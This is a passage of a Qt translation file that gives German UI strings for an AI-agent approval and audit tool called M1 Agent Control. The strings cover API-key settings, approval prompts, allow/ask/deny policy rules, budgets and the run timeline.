        <comment>plan step</comment>
        <translation>in Arbeit</translation>
    </message>
    <message>
        <source>done</source>
        <comment>plan step</comment>
        <translation>erledigt</translation>
    </message>
</context>
<context>
    <name>m1::SettingsDialog</name>
    <message>
        <source>Opens the folder; the file uses the format in docs/configuration.md.</source>
        <translation>Öffnet den Ordner; die Datei verwendet das in docs/configuration.md beschriebene Format.</translation>
    </message>
    <message>
        <source>Settings</source>
        <translation>Einstellungen</translation>
    </message>
    <message>
        <source>&amp;Claude</source>
        <translation>&amp;Claude</translation>
    </message>
    <message>
        <source>&amp;Approvals and limits</source>
        <translation>&amp;Freigaben und Limits</translation>
    </message>
    <message>
        <source>&amp;Rules</source>
        <translation>&amp;Regeln</translation>
    </message>
    <message>
        <source>&amp;Database</source>
        <translation>&amp;Datenbank</translation>
    </message>
    <message>
        <source>&amp;Monitoring</source>
        <translation>&amp;Überwachung</translation>
    </message>
    <message>
        <source>Settings not saved</source>
        <translation>Einstellungen nicht gespeichert</translation>
    </message>
    <message>
        <source>New Anthropic API key</source>
        <translation>Neuer Anthropic-API-Schlüssel</translation>
    </message>
    <message>
        <source>Paste a new key to replace the stored one</source>
        <translation>Fügen Sie einen neuen Schlüssel ein, um den gespeicherten zu ersetzen</translation>
    </message>
    <message>
        <source>A key is stored (it is never shown again).</source>
        <translation>Ein Schlüssel ist gespeichert (er wird nie wieder angezeigt).</translation>
    </message>
    <message>
        <source>No key stored: runs use the offline replay.</source>
        <translation>Kein Schlüssel gespeichert: Läufe verwenden die Wiedergabe (offline).</translation>
    </message>
    <message>
        <source>Store in the &amp;keychain</source>
        <translation>Im &amp;Schlüsselbund speichern</translation>
    </message>
    <message>
        <source>Re&amp;move the stored key</source>
        <translation>&amp;Gespeicherten Schlüssel entfernen</translation>
    </message>
    <message>
        <source>API key:</source>
        <translation>API-Schlüssel:</translation>
    </message>
    <message>
        <source>Base URL:</source>
        <translation>Basis-URL:</translation>
    </message>
    <message>
        <source>Models:</source>
        <translation>Modelle:</translation>
    </message>
    <message>
        <source>Agent profiles:</source>
        <translation>Agentenprofile:</translation>
    </message>
    <message>
        <source>Pricing overrides:</source>
        <translation>Abweichende Preise:</translation>
    </message>
    <message>
        <source>The stored key was removed.</source>
        <translation>Der gespeicherte Schlüssel wurde entfernt.</translation>
    </message>
    <message>
        <source>Storing the key in the keychain…</source>
        <translation>Schlüssel wird im Schlüsselbund gespeichert…</translation>
    </message>
    <message>
        <source>The key was not stored.</source>
        <translation>Der Schlüssel wurde nicht gespeichert.</translation>
    </message>
    <message>
        <source>The key is stored in the keychain (it is never shown again).</source>
        <translation>Der Schlüssel ist im Schlüsselbund gespeichert (er wird nie wieder angezeigt).</translation>
    </message>
    <message>
        <source>Without a keychain, set ANTHROPIC_API_KEY in the environment before starting the application.</source>
        <translation>Ohne Schlüsselbund setzen Sie ANTHROPIC_API_KEY in der Umgebung, bevor Sie die Anwendung starten.</translation>
    </message>
    <message>
        <source>The keychain refused access. Unlock it and press the button again.</source>
        <translation>Der Schlüsselbund hat den Zugriff verweigert. Entsperren Sie ihn und klicken Sie erneut auf die Schaltfläche.</translation>
    </message>
    <message>
        <source>Keychain</source>
        <translation>Schlüsselbund</translation>
    </message>
    <message>
        <source>Ask before &amp;reads</source>
        <translation>Vor &amp;Lesezugriffen nachfragen</translation>
    </message>
    <message>
        <source>Ask before &amp;writes</source>
        <translation>Vor &amp;Schreibzugriffen nachfragen</translation>
    </message>
    <message>
        <source>Ask before running &amp;commands</source>
        <translation>Vor dem Ausführen von &amp;Befehlen nachfragen</translation>
    </message>
    <message>
        <source>Approvals:</source>
        <translation>Freigaben:</translation>
    </message>
    <message>
        <source> s</source>
        <translation> s</translation>
    </message>
    <message>
        <source>An undecided proposal expires after:</source>
        <translation>Ein unentschiedener Vorschlag läuft ab nach:</translation>
    </message>
    <message>
        <source>Approval token lifetime:</source>
        <translation>Gültigkeitsdauer des Freigabe-Tokens:</translation>
    </message>
    <message>
        <source>Model turns per run at most:</source>
        <translation>Maximale Modellrunden pro Lauf:</translation>
    </message>
    <message>
        <source>Tool calls per run at most:</source>
        <translation>Maximale Werkzeugaufrufe pro Lauf:</translation>
    </message>
    <message>
        <source>Runtime per run at most:</source>
        <translation>Maximale Laufzeit pro Lauf:</translation>
    </message>
    <message>
        <source>none</source>
        <translation>keines</translation>
    </message>
    <message>
        <source>Daily budget:</source>
        <translation>Tagesbudget:</translation>
    </message>
    <message>
        <source>Monthly budget:</source>
        <translation>Monatsbudget:</translation>
    </message>
    <message>
        <source>Rules in %1. Each list holds Tool or Tool(pattern) entries, for example &quot;run_command(git status*)&quot; or &quot;write_file(src/**)&quot;. Deny wins over ask, ask over allow.</source>
        <translation>Regeln in %1. Jede Liste enthält Einträge der Form Werkzeug oder Werkzeug(Muster), zum Beispiel &quot;run_command(git status*)&quot; oder &quot;write_file(src/**)&quot;. &quot;deny&quot; hat Vorrang vor &quot;ask&quot;, &quot;ask&quot; vor &quot;allow&quot;.</translation>
    </message>
    <message>
        <source>Policy rules as JSON</source>
        <translation>Richtlinienregeln als JSON</translation>
    </message>
    <message numerus="yes">
        <source>Valid: %n rule(s).</source>
        <translation>
            <numerusform>Gültig: %n Regel.</numerusform>
            <numerusform>Gültig: %n Regeln.</numerusform>
        </translation>
    </message>
    <message>
        <source>Not valid: %1</source>
        <translation>Ungültig: %1</translation>
    </message>
    <message>
        <source>An SQLite file, or postgresql://user@host/db for a shared server. Put the PostgreSQL password in ~/.pgpass or PGPASSWORD, not here.</source>
        <translation>Eine SQLite-Datei oder postgresql://user@host/db für einen gemeinsam genutzten Server. Legen Sie das PostgreSQL-Passwort in ~/.pgpass oder PGPASSWORD ab, nicht hier.</translation>
    </message>
    <message>
        <source>&amp;Test connection</source>
        <translation>Verbindung &amp;testen</translation>
    </message>
    <message>
        <source>In use: %1</source>
        <translation>Verwendet: %1</translation>
    </message>
    <message>
        <source>Audit database:</source>
        <translation>Prüfprotokoll-Datenbank:</translation>
    </message>
    <message>
        <source>A new database location applies after a restart.</source>
        <translation>Ein neuer Speicherort der Datenbank wird nach einem Neustart wirksam.</translation>
    </message>
    <message>
        <source>Connecting…</source>
        <translation>Verbindung wird hergestellt…</translation>
    </message>
    <message>
        <source>Connection failed: %1</source>
        <translation>Verbindung fehlgeschlagen: %1</translation>
    </message>
    <message>
        <source>Connected to %1: %2</source>
        <translation>Verbunden mit %1: %2</translation>
    </message>
    <message>
        <source>Connected, but the check failed: %1</source>
        <translation>Verbunden, aber die Prüfung ist fehlgeschlagen: %1</translation>
    </message>
    <message>
        <source>Serve metrics for Prometheus on localhost</source>
        <translation>Metriken für Prometheus auf localhost bereitstellen</translation>
    </message>
    <message>
        <source>Metrics endpoint:</source>
        <translation>Metrik-Endpunkt:</translation>
    </message>
    <message>
        <source>Port:</source>
        <translation>Port:</translation>
    </message>
    <message>
        <source>Log level:</source>
        <translation>Protokollstufe:</translation>
    </message>
    <message>
        <source>Log file:</source>
        <translation>Protokolldatei:</translation>
    </message>
    <message>
        <source>The database URL holds a password. Put it in ~/.pgpass or PGPASSWORD instead: settings are not a place for secrets.</source>
        <translation>Die Datenbank-URL enthält ein Passwort. Legen Sie es stattdessen in ~/.pgpass oder PGPASSWORD ab: Einstellungen sind kein Ort für Geheimnisse.</translation>
    </message>
    <message>
        <source>Could not write %1: %2</source>
        <translation>%1 konnte nicht geschrieben werden: %2</translation>
    </message>
    <message>
        <source>Claude API base URL</source>
        <translation>Basis-URL der Claude-API</translation>
    </message>
    <message>
        <source>Set by ANTHROPIC_BASE_URL in the environment, which wins over this setting.</source>
        <translation>Durch ANTHROPIC_BASE_URL in der Umgebung festgelegt, die Vorrang vor dieser Einstellung hat.</translation>
    </message>
    <message>
        <source>Leave empty for https://api.anthropic.com. Only https, or plain http to this computer (a local proxy). Never taken from a workspace.</source>
        <translation>Leer lassen für https://api.anthropic.com. Nur https oder reines http zu diesem Computer (ein lokaler Proxy). Wird nie aus einem Arbeitsbereich übernommen.</translation>
    </message>
</context>
<context>
    <name>m1::TerminalApprovalGate</name>
    <message>
        <source>
=== Approval needed: %1 (scope %2), step %3, call %4
</source>
        <translation>
=== Freigabe erforderlich: %1 (Bereich %2), Schritt %3, Aufruf %4
</translation>
    </message>
    <message>
        <source>Policy: %1
</source>
        <translation>Richtlinie: %1
</translation>
    </message>
    <message>
        <source>Command (argv, one element per line, no shell):
</source>
        <translation>Befehl (argv, ein Element pro Zeile, keine Shell):
</translation>
    </message>
    <message>
        <source>  in folder: %1
</source>
        <translation>  im Ordner: %1
</translation>
    </message>
    <message>
        <source>(old_string does not occur in the current file: the edit would fail)
</source>
        <translation>(old_string kommt in der aktuellen Datei nicht vor: die Bearbeitung würde fehlschlagen)
</translation>
    </message>
    <message>
        <source>File: %1%2
</source>
        <translation>Datei: %1%2
</translation>
    </message>
    <message>
        <source> (new file)</source>
        <translation> (neue Datei)</translation>
    </message>
    <message>
        <source>Arguments: %1
</source>
        <translation>Argumente: %1
</translation>
    </message>
    <message>
        <source>Approved (same call approved earlier for this run): %1
</source>
        <translation>Freigegeben (derselbe Aufruf wurde in diesem Lauf bereits freigegeben): %1
</translation>
    </message>
    <message>
        <source>approved earlier for this run</source>
        <translation>in diesem Lauf bereits freigegeben</translation>
    </message>
    <message>
        <source>
(withdrawn: the run no longer waits for this decision)
</source>
        <translation>
(zurückgezogen: der Lauf wartet nicht mehr auf diese Entscheidung)
</translation>
    </message>
    <message>
        <source>Approve? [y] once  [a] this exact call for the rest of the run  [n] deny  [f] deny with feedback: </source>
        <translation>Freigeben? [y] einmal  [a] genau diesen Aufruf für den Rest des Laufs  [n] ablehnen  [f] mit Rückmeldung ablehnen: </translation>
    </message>
    <message>
        <source>the terminal closed before a decision</source>
        <translation>das Terminal wurde vor einer Entscheidung geschlossen</translation>
    </message>
    <message>
        <source>denied by the person at the terminal</source>
        <translation>von der Person am Terminal abgelehnt</translation>
    </message>
    <message>
        <source>approved once at the terminal</source>
        <translation>am Terminal einmal freigegeben</translation>
    </message>
    <message>
        <source>approved at the terminal for the rest of the run</source>
        <translation>am Terminal für den Rest des Laufs freigegeben</translation>
    </message>
    <message>
        <source>Feedback for the model (one line): </source>
        <translation>Rückmeldung für das Modell (eine Zeile): </translation>
    </message>
    <message>
        <source>Please answer y, a, n or f: </source>
        <translation>Bitte antworten Sie mit y, a, n oder f: </translation>
    </message>
    <message>
        <source>Proposal %1 of %2 in this message needing a decision (asked one at a time, run in the message&apos;s order)
</source>
        <translation>Vorschlag %1 von %2 in dieser Nachricht, die eine Entscheidung erfordern (einzeln abgefragt, in der Reihenfolge der Nachricht ausgeführt)
</translation>
    </message>
    <message>
        <source>(the current file cannot be read: %1 The diff compares with an empty file.)
</source>
        <translation>(die aktuelle Datei kann nicht gelesen werden: %1 Der Diff vergleicht mit einer leeren Datei.)
</translation>
    </message>
</context>
<context>
    <name>m1::TimelineDelegate</name>
    <message>
        <source>cost unknown</source>
        <translation>Kosten unbekannt</translation>
    </message>
    <message>
        <source>Step %1</source>
        <translation>Schritt %1</translation>
    </message>
    <message>
        <source>%1 in · %2 out · %3</source>
        <translation>%1 Eingabe · %2 Ausgabe · %3</translation>
    </message>
    <message>
        <source> (edited)</source>
        <translation> (bearbeitet)</translation>
    </message>
    <message>
        <source>%1 ms</source>
        <translation>%1 ms</translation>
    </message>
    <message>
        <source>Policy: ask — %1</source>
        <translation>Richtlinie: Rückfrage — %1</translation>
    </message>
    <message>
        <source>Policy: allow — %1</source>
        <translation>Richtlinie: erlaubt — %1</translation>
    </message>
    <message>
        <source>Policy: deny — %1</source>
        <translation>Richtlinie: abgelehnt — %1</translation>
    </message>
    <message>
        <source>Policy: checking…</source>
        <translation>Richtlinie: wird geprüft…</translation>
    </message>
    <message>
        <source>Decided by you</source>
        <translation>Von Ihnen entschieden</translation>
    </message>
    <message>
        <source>Decided by the policy</source>
        <translation>Von der Richtlinie entschieden</translation>
    </message>
    <message>
        <source>Covered by a pre-authorised token</source>
        <translation>Durch einen vorab autorisierten Token abgedeckt</translation>
    </message>
    <message>
        <source>Approved automatically</source>
        <translation>Automatisch freigegeben</translation>
    </message>
    <message>
        <source>Waiting for your decision</source>
        <translation>Wartet auf Ihre Entscheidung</translation>
    </message>
    <message>
        <source>Token %1</source>
        <translation>Token %1</translation>
    </message>
    <message>
        <source>%1 · used</source>
        <translation>%1 · verbraucht</translation>
    </message>
    <message>
        <source>%1 · not used</source>
        <translation>%1 · nicht verbraucht</translation>
    </message>
    <message>
        <source>%1 · being used by the tool</source>
        <translation>%1 · wird vom Werkzeug verwendet</translation>
    </message>
    <message>
        <source>%1 · expired</source>
        <translation>%1 · abgelaufen</translation>
    </message>
    <message>
        <source>%1 · valid for %2:%3</source>
        <translation>%1 · gültig für %2:%3</translation>
    </message>
    <message numerus="yes">
        <source>Plan: %1 of %n step(s) done</source>
        <translation>
            <numerusform>Plan: %1 von %n Schritt erledigt</numerusform>
            <numerusform>Plan: %1 von %n Schritten erledigt</numerusform>
        </translation>
    </message>
    <message>
        <source> · next: %1</source>
        <translation> · als Nächstes: %1</translation>
    </message>
    <message>
        <source>%1 in %2</source>
        <translation>%1 in %2</translation>
    </message>
</context>
<context>
    <name>m1::TimelineModel</name>
    <message>
        <source>Step %1</source>
        <translation>Schritt %1</translation>
    </message>
    <message>
        <source>%1 (%2): %3</source>
        <translation>%1 (%2): %3</translation>
    </message>
    <message>
        <source>(retrying: the text of the failed attempt was discarded)</source>
        <translation>(Wiederholung: der Text des fehlgeschlagenen Versuchs wurde verworfen)</translation>
    </message>
    <message>
        <source>Step %1
Tokens: %2 in, %3 out
Cost: %4</source>
        <translation>Schritt %1
Tokens: %2 Eingabe, %3 Ausgabe
Kosten: %4</translation>
    </message>
    <message>
        <source>unknown</source>
        <translation>unbekannt</translation>
    </message>
    <message>
        <source>Tool: %1 (%2)</source>
        <translation>Werkzeug: %1 (%2)</translation>
    </message>
    <message>
        <source>Call id: %1</source>
        <translation>Aufruf-ID: %1</translation>
    </message>
    <message>
        <source>Status: %1</source>
        <translation>Status: %1</translation>
    </message>
    <message>
        <source>Policy: %1 — %2</source>
        <translation>Richtlinie: %1 — %2</translation>
    </message>
    <message>
        <source>Decided by: %1%2</source>
        <translation>Entschieden von: %1%2</translation>
    </message>
    <message>
        <source>The arguments were edited before approval.</source>
        <translation>Die Argumente wurden vor der Freigabe bearbeitet.</translation>
    </message>
    <message>
        <source>Duration: %1 ms</source>
        <translation>Dauer: %1 ms</translation>
    </message>
    <message>
        <source>Arguments:</source>
        <translation>Argumente:</translation>
    </message>
    <message>
        <source>Output:</source>
        <translation>Ausgabe:</translation>
    </message>
    <message>
        <source>allow</source>
        <comment>policy decision</comment>
        <translation>erlaubt</translation>
    </message>
    <message>
        <source>ask</source>
        <comment>policy decision</comment>
        <translation>Rückfrage</translation>
    </message>
    <message>
        <source>deny</source>
        <comment>policy decision</comment>
        <translation>abgelehnt</translation>
    </message>
    <message>
        <source>you</source>
        <comment>who decided</comment>
        <translation>Ihnen</translation>
    </message>
    <message>
        <source>a policy rule</source>
        <comment>who decided</comment>
        <translation>einer Richtlinienregel</translation>
    </message>
    <message>
        <source>a pre-authorised token</source>
        <comment>who decided</comment>
        <translation>einem vorab ausgestellten Token</translation>
    </message>
    <message>
        <source>automatic approval</source>
        <comment>who decided</comment>
        <translation>automatischer Freigabe</translation>
    </message>
    <message>
        <source>Decided by the account: %1</source>
        <translation>Entschieden vom Konto: %1</translation>
    </message>
    <message>
        <source>The whole arguments were scrolled into view.</source>
        <translation>Die Argumente wurden vollständig in den sichtbaren Bereich gescrollt.</translation>
    </message>
    <message>
        <source>Not all of the arguments were scrolled into view.</source>
        <translation>Nicht alle Argumente wurden in den sichtbaren Bereich gescrollt.</translation>
    </message>
    <message>
        <source>Decided together with the other calls of its message.</source>
        <translation>Zusammen mit den anderen Aufrufen seiner Nachricht entschieden.</translation>
    </message>
    <message>
        <source>Approval token: fingerprint %1</source>
        <translation>Freigabe-Token: Fingerabdruck %1</translation>
    </message>
    <message>
        <source>, valid until %1</source>
        <translation>, gültig bis %1</translation>
    </message>
    <message>
        <source>, used</source>
        <translation>, verbraucht</translation>
    </message>
    <message>
        <source>, not used</source>
        <translation>, nicht verbraucht</translation>
    </message>
    <message>
        <source>Time to decide: %1</source>
        <translation>Zeit bis zur Entscheidung: %1</translation>
    </message>
</context>
<context>
    <name>m1::TimelineView</name>
    <message>
        <source>Run timeline</source>
        <translation>Zeitleiste des Laufs</translation>
    </message>
    <message>
        <source>Details of the selected step</source>
        <translation>Details zum ausgewählten Schritt</translation>
    </message>
    <message>
        <source>Select a row to see everything about it: the full arguments, the output, the policy&apos;s reason and who decided.</source>
        <translation>Wählen Sie eine Zeile aus, um alles darüber zu sehen: die vollständigen Argumente, die Ausgabe, die Begründung der Richtlinie und wer entschieden hat.</translation>
    </message>
</context>
<context>
    <name>main</name>
    <message>
        <source>M1 Agent Control: approve, audit and observe what an AI agent does.</source>
        <translation>M1 Agent Control: freigeben, protokollieren und beobachten, was ein KI-Agent tut.</translation>
    </message>
    <message>
        <source>Render each main view with demo data to DIR/*.png and exit.</source>
        <translation>Jede Hauptansicht mit Demodaten nach DIR/*.png rendern und beenden.</translation>
    </message>
    <message>
        <source>Audit database: an SQLite file or a postgresql:// URL (default: the one in the settings, else audit.sqlite).</source>
        <translation>Prüfprotokoll-Datenbank: eine SQLite-Datei oder eine postgresql://-URL (Standard: die aus den Einstellungen, sonst audit.sqlite).</translation>
    </message>
    <message>
        <source>Cannot start</source>
        <translation>Start nicht möglich</translation>
    </message>
    <message>
        <source>Error code: %1. Check the settings file, the database location (--db) and the folders&apos; permissions, then start again.</source>
        <translation>Fehlercode: %1. Prüfen Sie die Einstellungsdatei, den Speicherort der Datenbank (--db) und die Ordnerberechtigungen und starten Sie dann erneut.</translation>
    </message>
</context>
</TS>
